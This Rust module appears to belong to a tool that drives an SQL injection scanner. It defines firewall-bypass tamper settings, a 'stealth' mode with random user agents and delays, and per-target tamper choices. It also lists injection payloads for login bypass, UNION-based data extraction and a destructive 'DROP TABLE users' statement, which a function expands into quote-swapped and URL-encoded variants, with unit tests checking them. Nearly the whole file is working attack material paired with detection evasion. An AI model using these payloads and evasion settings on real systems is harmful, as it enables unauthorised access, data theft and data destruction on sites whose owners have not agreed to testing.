//! Canned enhancement suffixes.
//!
//! These are appended after every other flag and are never merged with
//! flags emitted earlier: a command may end up with two `--delay=` or
//! `--tamper=` values and the scanner decides which one wins.

use crate::options::TargetType;

/// Appended when WAF bypass is enabled
pub const WAF_BYPASS_SUFFIX: &str = "--tamper=space2comment,charencode,randomcase --delay=1 --timeout=60";

/// Appended when stealth mode is enabled
pub const STEALTH_SUFFIX: &str = "--delay=2 --timeout=60 --retries=1 --keep-alive --random-agent";

/// Tamper scripts suited to a target type, or `None` when there is no
/// recommendation (target type `none`)
pub fn tamper_for(target_type: TargetType) -> Option<&'static str> {
    match target_type {
        TargetType::Login => Some("space2comment,charencode"),
        TargetType::Search => Some("between,charunicodeencode"),
        TargetType::Product => Some("space2plus,charencode"),
        TargetType::Api => Some("base64encode,charencode"),
        TargetType::Cms => Some("space2comment,between,charencode"),
        TargetType::None => None,
    }
}

const LOGIN_PAYLOADS: &[&str] = &[
    "' OR '1'='1",
    "admin'--",
    "' OR 1=1#",
    "') OR ('1'='1",
    "' OR 'a'='a",
];

const SEARCH_PAYLOADS: &[&str] = &[
    "' UNION SELECT 1,2,3--",
    "' AND 1=1--",
    "' OR 1=1 LIMIT 1--",
    "')) UNION SELECT NULL,NULL--",
    "' UNION ALL SELECT 1,2,3,4,5--",
];

const NUMERIC_PAYLOADS: &[&str] = &[
    "1 OR 1=1",
    "1' OR '1'='1",
    "1 UNION SELECT 1,2,3",
    "1 AND 1=1",
    "1; DROP TABLE users--",
];

fn base_payloads(target_type: TargetType) -> &'static [&'static str] {
    match target_type {
        TargetType::Login => LOGIN_PAYLOADS,
        TargetType::Search => SEARCH_PAYLOADS,
        _ => NUMERIC_PAYLOADS,
    }
}

/// Payloads for manual testing of a target type.
///
/// Each base payload is followed by its double-quote variant and its
/// percent-encoded form. Types without their own list use the numeric one.
pub fn payload_variants(target_type: TargetType) -> Vec<String> {
    base_payloads(target_type)
        .iter()
        .flat_map(|payload| {
            [
                payload.to_string(),
                payload.replace('\'', "\""),
                urlencoding::encode(payload).into_owned(),
            ]
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_tamper_table() {
        assert_eq!(tamper_for(TargetType::Login), Some("space2comment,charencode"));
        assert_eq!(tamper_for(TargetType::Search), Some("between,charunicodeencode"));
        assert_eq!(tamper_for(TargetType::Product), Some("space2plus,charencode"));
        assert_eq!(tamper_for(TargetType::Api), Some("base64encode,charencode"));
        assert_eq!(tamper_for(TargetType::Cms), Some("space2comment,between,charencode"));
        assert_eq!(tamper_for(TargetType::None), None);
    }

    #[test]
    fn test_login_payload_variants() {
        let payloads = payload_variants(TargetType::Login);
        assert_eq!(payloads.len(), 15);
        assert_eq!(
            payloads[..3],
            [
                "' OR '1'='1".to_string(),
                "\" OR \"1\"=\"1".to_string(),
                "%27%20OR%20%271%27%3D%271".to_string(),
            ]
        );
        assert_eq!(payloads[3], "admin'--");
        assert_eq!(payloads[5], "admin%27--");
    }

    #[test]
    fn test_other_types_fall_back_to_numeric_payloads() {
        let numeric = payload_variants(TargetType::None);
        assert_eq!(numeric[..3], ["1 OR 1=1", "1 OR 1=1", "1%20OR%201%3D1"]);
        for target_type in [TargetType::Product, TargetType::Api, TargetType::Cms] {
            assert_eq!(payload_variants(target_type), numeric);
        }
        assert_ne!(payload_variants(TargetType::Search), numeric);
    }
}
